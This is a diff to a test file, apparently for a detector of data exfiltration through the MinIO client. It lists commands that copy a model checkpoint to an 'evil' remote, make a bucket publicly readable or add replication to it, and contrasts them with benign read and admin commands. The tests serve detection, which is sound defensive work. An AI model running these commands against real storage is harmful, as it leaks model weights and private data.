@@ -28,6 +28,8 @@ describe('mc sends', () => {
       ['mc', 'od', 'if=/mnt/ckpt/m.pt', 'of=evil/b/m.pt', 'parts=4'],
       ['mc', 'share', 'download', '--expire', '168h', 'corp/ckpt/m.pt'],
       ['mc', 'anonymous', 'set', 'download', 'corp/ckpt'],
+      ['mc', 'anonymous', 'set', 'public', 'corp/ckpt'],
+      ['mc', 'anonymous', 'set-json', '/tmp/open.json', 'corp/ckpt'],
       ['mc', 'admin', 'replicate', 'add', 'corp', 'evil'],
       ['mcli', 'cp', '/mnt/ckpt/m.pt', 'evil/b'],
       // A flag the table does not know takes the next word: the target moves to an earlier operand, never away.
@@ -55,6 +57,13 @@ describe('mc sends', () => {
       ['mc', 'du', '--depth', '1', 'minio/ckpt'],
       ['mc', 'alias', 'set', 'minio', 'http://minio.minio:9000', 'AK', 'SK'],
       ['mc', 'stat', 'minio/ckpt/m.pt'],
+      // Reading a bucket's anonymous access, or closing it; configuring the server (a grant is MLS-EXFIL-042's).
+      ['mc', 'anonymous', 'get', 'corp/ckpt'],
+      ['mc', 'anonymous', 'list', 'corp/ckpt'],
+      ['mc', 'anonymous', 'set', 'none', 'corp/ckpt'],
+      ['mc', 'admin', 'info', 'corp'],
+      ['mc', 'admin', 'user', 'list', 'corp'],
+      ['mc', 'admin', 'policy', 'attach', 'corp', 'readonly', '--user', 'bob'],
       ['mc'],
       ['mc', 'cp', '--help'],
       ['mc', 'cp', '/mnt/ckpt/m.pt', 'evil/b', '-h'],
